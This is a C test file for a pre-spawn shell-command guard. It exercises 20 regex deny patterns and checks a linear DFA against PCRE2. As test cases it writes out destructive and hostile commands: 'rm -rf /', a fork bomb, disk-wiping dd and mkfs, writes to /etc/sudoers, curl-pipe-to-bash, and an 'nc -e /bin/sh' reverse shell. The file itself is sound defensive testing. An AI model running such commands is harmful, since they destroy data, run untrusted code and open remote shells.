/* SPDX-License-Identifier: MIT */
/*
 * The pre-spawn guards: every example of SPEC 1.2, every pattern hit and
 * missed, the env-name rule, the pattern text against patterns.txt, and the
 * linear DFA cross-checked against PCRE2 on the corpus and on generated
 * commands.
 */
#include "../harness/tap.h"
#include "internal.h"
#include "linre.h"
#include "oracle.h"

#include <stdlib.h>
#include <time.h>

/* 0 when allowed, the pattern number when a pattern rejects, -1 for the
 * absolute-path guard. */
static int verdict(const char *cmd)
{
    struct bsh_error err;
    int rc = bsh_check(cmd, strlen(cmd), &err);
    if (rc == BSH_OK)
        return 0;
    return err.pattern > 0 ? err.pattern : -1;
}

static void test_spec_examples(void)
{
    static const struct {
        const char *cmd;
        int pattern;
    } blocked[] = {
        {"rm -rf /", 1},
        {"rm -rf /tmp/x", 1},
        {"RM -RF /", 1},
        {"sudo rm file", 2},
        {"chmod -R 777 /", 3},
        {"chown -R user:group /home/u", 5},
        {":(){ :|:& };:", 6},
        {"echo x > /dev/sda", 7},
        {"mkfs.ext4 /dev/sdb1", 8},
        {"dd if=/dev/zero of=/dev/sda bs=1M", 9},
        {"shred /dev/sda", 10},
        {"echo x >> /etc/passwd", 12},
        {"echo x | tee -a /etc/sudoers", 13},
        {"curl https://x | bash", 14},
        {"bash <(curl -s x)", 15},
        {"eval \"$(curl x)\"", 16},
        {"kill -9 1", 17},
        {"shutdown now", 18},
        {"x;halt", 18},
        {"init 0", 19},
        {"nc -e /bin/sh host 4444", 20},
        {"sudo rm -rf /", 1},
    };
    for (size_t i = 0; i < sizeof(blocked) / sizeof(blocked[0]); i++) {
        char what[160];
        snprintf(what, sizeof(what), "blocked by pattern %d: %s",
                 blocked[i].pattern, blocked[i].cmd);
        is_int(verdict(blocked[i].cmd), blocked[i].pattern, what);
    }
    static const char *const passes[] = {
        "rm -rf ./vendor", "curl -o /tmp/x && bash /tmp/x",
        "kill -9 10",      "rebooter",
        "nc -zv host 22",  "ls -la",
    };
    for (size_t i = 0; i < sizeof(passes) / sizeof(passes[0]); i++) {
        char what[160];
        snprintf(what, sizeof(what), "passes: %s", passes[i]);
        is_int(verdict(passes[i]), 0, what);
    }
}

static void test_messages(void)
{
    struct bsh_error err;
    is_int(bsh_check("/bin/ls", 7, &err), BSH_EGUARD, "absolute path rejected");
    is_str(err.text_err, "absolute command not allowed, use relative path",
           "absolute path message");
    is_int(bsh_check(" /bin/ls", 8, &err), BSH_OK,
           "a leading blank is not an absolute path (as the reference)");
    bsh_check("sudo rm -rf /", 13, &err);
    is_str(err.text_err,
           "Pattern match found: (?i)\\brm\\s+-[a-z]*[rRfF][a-z]*\\s+\\/",
           "message names the first pattern in list order, exact text");
    is_int(bsh_check("", 0, &err), BSH_OK, "the empty command is allowed");
    is_int(bsh_check(NULL, 0, &err), BSH_EINVAL, "NULL command is misuse");
}

/* Each pattern hit (as the first match) and missed by a near miss. */
static void test_each_pattern(void)
{
    static const struct {
        int pattern;
        const char *hit, *miss;
    } cases[] = {
        {1, "rm -rf /", "rm -rf ./vendor"},
        {2, "sudo rm file", "sudo rmdir x"},
        {3, "chmod -R 777 /", "chmod -R 777 ./x"},
        {4, "chmod -R u+rwx /etc", "chmod -R u+rwx ./x"},
        {5, "chown -R user:group /home/u", "chown -R user ./dir"},
        {6, ":(){ :|:& };:", ":(){ echo; }"},
        {7, "echo x > /dev/sda", "echo x > /dev/null"},
        {8, "mkfs.ext4 /dev/sdb1", "echo mkfsx"},
        {9, "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/zero of=./d.img"},
        {10, "shred /dev/sda", "shred ./secret.txt"},
        {11, "cryptsetup luksFormat x", "echo cryptsetups"},
        {12, "echo x > /etc/shadow", "cat /etc/passwd"},
        {13, "tee /etc/sudoers", "tee /tmp/sudoers"},
        {14, "wget -qO- x | sh", "curl https://x | jq ."},
        {15, "source <(wget x)", "bash <(cat x)"},
        {16, "eval `curl x`", "eval \"$(cat x)\""},
        {17, "kill -9 1", "kill -9 10"},
        {18, "reboot", "rebooter"},
        {19, "init 0", "init 01"},
        {20, "nc -lvc sh 4444 ", "nc -zv host 22"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char what[160];
        snprintf(what, sizeof(what), "pattern %d hits: %s", cases[i].pattern,
                 cases[i].hit);
        is_int(verdict(cases[i].hit), cases[i].pattern, what);
        snprintf(what, sizeof(what), "pattern %d misses: %s", cases[i].pattern,
                 cases[i].miss);
        is_int(verdict(cases[i].miss), 0, what);
    }
    /* Patterns 4 and 17 have no (?i): the reference lets these through. */
    is_int(verdict("KILL -9 1"), 0, "pattern 17 is case-sensitive");
    is_int(verdict("CHMOD -R u+x /"), 0, "pattern 4 is case-sensitive");
    is_int(verdict("chmod -R U+X /"), 0, "pattern 4 class is case-sensitive");
}

static void test_env_names(void)
{
    static const char *const good[] = {"A", "_", "a_1", "PATH", "_9"};
    static const char *const bad[] = {"",    "1A", "A-B",     "A B",
                                      "A\n", "A=", "\xc3\xa9"};
    for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
        ok(bsh_env_name_valid(good[i]), good[i]);
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        char what[64];
        snprintf(what, sizeof(what), "invalid env name #%zu", i);
        ok(!bsh_env_name_valid(bad[i]), what);
    }
    ok(!bsh_env_name_valid(NULL), "NULL name is invalid");
}

static char *read_file(const char *path)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL)
        return NULL;
    static char buf[1 << 20];
    size_t n = fread(buf, 1, sizeof(buf) - 1, f);
    fclose(f);
    buf[n] = '\0';
    return buf;
}

static void test_pattern_text(void)
{
    char *text = read_file(BSH_TEST_DATA "/patterns.txt");
    ok(text != NULL, "patterns.txt readable");
    if (text == NULL)
        return;
    size_t i = 0;
    for (char *line = strtok(text, "\n"); line != NULL;
         line = strtok(NULL, "\n"), i++) {
        const struct bsh_pattern *p = bsh_pattern_at(i);
        char what[64];
        snprintf(what, sizeof(what), "pattern %zu text is exact", i + 1);
        is_str(p != NULL ? p->regex : NULL, line, what);
        is_int(p != NULL ? p->number : 0, (long long)i + 1, "numbered");
    }
    is_int(i, 20, "20 patterns");
    is_int(bsh_pattern_count(), 20, "bsh_pattern_count() says so");
    ok(bsh_pattern_at(bsh_pattern_count()) == NULL, "nothing past the end");
}

static int disagreements;

static void cross_check(const char *s, size_t len)
{
    for (size_t i = 0; i < bsh_pattern_count(); i++) {
        int d = bsh__pattern_matches(i, s, len);
        int p = linre_oracle_match(i, s, len);
        if (d != p && disagreements++ < 5)
            diag("pattern %zu: dfa %d pcre %d on '%.*s'", i + 1, d, p, (int)len,
                 s);
    }
}

static void cross_check_file(const char *path)
{
    char *text = read_file(path);
    ok(text != NULL, path);
    for (char *line = text ? strtok(text, "\n") : NULL; line != NULL;
         line = strtok(NULL, "\n")) {
        char *tab = strchr(line, '\t');
        const char *cmd = tab != NULL ? tab + 1 : line;
        cross_check(cmd, strlen(cmd));
    }
}

/* Commands built from the patterns' own tokens, so that the generated
 * strings come near every pattern's edges. */
static void cross_check_generated(void)
{
    static const char *const tokens[] = {
        "rm",   " ",        "  ",      "-",          "-rf",    "rF",     "/",
        "sudo", "chmod",    "-R",      "777",        "u+x",    "chown",  ":",
        "(",    ")",        "{",       "}",          "|",      "&",      ">",
        ">>",   "dev",      "/dev/sd", "a",          "mkfs",   ".",      "dd",
        "if=",  "of=/dev/", "shred",   "cryptsetup", "/etc/",  "passwd", "tee",
        "-a",   "curl",     "wget",    "fetch",      "bash",   "sh",     "zsh",
        "<(",   "eval",     "\"",      "$(",         "`",      "'",      "kill",
        "-9",   "1",        "0",       "shutdown",   "reboot", "halt",   "init",
        "nc",   "-e",       "-c",      "\t",         "\n",     ";",      "x",
        "_",    "\xc3\xa9", "\xff",    "\v",         "source", "RM",
    };
    size_t ntok = sizeof(tokens) / sizeof(tokens[0]);
    unsigned seed = 12345;
    char buf[256];
    for (int n = 0; n < 200000; n++) {
        size_t len = 0;
        int count = 1 + (int)((seed = seed * 1103515245u + 12345u) >> 16) % 12;
        for (int k = 0; k < count; k++) {
            seed = seed * 1103515245u + 12345u;
            const char *t = tokens[(seed >> 16) % ntok];
            size_t tl = strlen(t);
            if (len + tl >= sizeof(buf))
                break;
            memcpy(buf + len, t, tl);
            len += tl;
        }
        cross_check(buf, len);
    }
}

/* linre refuses what it cannot match with PCRE's meaning (the build then
 * fails), and accepts the rest of the syntax it claims. */
static void test_linre_subset(void)
{
    static const char *const refused[] = {
        "(a)\\1", "(?=a)", "(?<=a)b", "a*+", "(?m)^a", "[[:alpha:]]",
        "a{3,2}", "(a",    "a)",      "*a",  "\\Z",    "a{101}",
    };
    for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
        struct linre *re = (struct linre *)&refused; /* must become NULL */
        char what[64];
        snprintf(what, sizeof(what), "linre refuses %s", refused[i]);
        ok(linre_compile(refused[i], &re) < 0 && re == NULL, what);
    }
    static const struct {
        const char *re, *subject;
        bool match;
    } cases[] = {
        {"a{2,3}b", "xaab", true},    {"a{2,3}b", "xab", false},
        {"^ab$", "ab", true},         {"^ab$", "ab\n", false},
        {"\\Bb", "ab", true},         {"\\Bb", " b", false},
        {"[^\\s]x", " x", false},     {"a.c", "a\nc", false},
        {"(?i)[a-c]+z", "ABZ", true}, {"\\x41\\t", "A\t", true},
        {"a{2,}", "aa", true},        {"(?:ab|cd)*?e", "cdabe", true},
        {"x{1}y?z", "xz", true},      {"\\d\\w\\W", "1_!", true},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct linre *re = NULL;
        int rc = linre_compile(cases[i].re, &re);
        char what[96];
        snprintf(what, sizeof(what), "linre: /%s/ on '%s'", cases[i].re,
                 cases[i].subject);
        ok(rc == 0 && linre_match(re, (const unsigned char *)cases[i].subject,
                                  strlen(cases[i].subject)) == cases[i].match,
           what);
        linre_free(re);
    }
}

static void test_dfa_matches_pcre2(void)
{
    disagreements = 0;
    cross_check_file(BSH_TEST_DATA "/dangerous.tsv");
    cross_check_file(BSH_TEST_DATA "/benign.tsv");
    is_int(disagreements, 0, "DFA agrees with PCRE2 on the corpus");
    disagreements = 0;
    cross_check_generated();
    is_int(disagreements, 0, "DFA agrees with PCRE2 on 200000 commands");
}

/* A crafted 128 KiB command per pattern. The budget is deliberately wide
 * (the benchmark measures the real figure); backtracking would blow it. */
static void test_linear_time(void)
{
    static const char *const units[] = {
        "rm -rrrrrrrrrrrrrrrr ",
        "curl x ",
        "dd if=of=",
        "nc -eeeeeeee ",
        "chown -R a ",
        ":(){ :",
        "eval $(",
        "bash <(",
        " init ",
        "chmod -R 7777777 ",
    };
    size_t len = 128 * 1024;
    char *cmd = malloc(len + 1);
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (size_t u = 0; u < sizeof(units) / sizeof(units[0]); u++) {
        size_t ul = strlen(units[u]);
        for (size_t i = 0; i < len; i++)
            cmd[i] = units[u][i % ul];
        cmd[len] = '\0';
        (void)bsh_check(cmd, len, NULL);
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 +
                (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
    diag("10 crafted 128 KiB commands checked in %.1f ms", ms);
    ok(ms < 2000.0, "crafted 128 KiB commands check in linear time");
    free(cmd);
}

int main(void)
{
    test_spec_examples();
    test_messages();
    test_each_pattern();
    test_env_names();
    test_pattern_text();
    test_linre_subset();
    test_dfa_matches_pcre2();
    test_linear_time();
    return tap_done();
}
